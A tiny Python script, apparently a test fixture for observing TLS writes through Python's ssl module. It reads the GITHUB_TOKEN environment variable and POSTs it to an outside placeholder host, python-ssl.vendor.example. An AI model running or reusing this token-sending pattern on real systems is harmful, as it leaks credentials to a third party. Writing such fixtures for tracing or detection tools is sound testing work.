#!/usr/bin/python3
"""Python's ssl module, which calls SSL_write_ex."""

import os
import urllib.request

data = b"token=" + os.environb[b"GITHUB_TOKEN"]
urllib.request.urlopen("https://python-ssl.vendor.example/", data, 20).read()
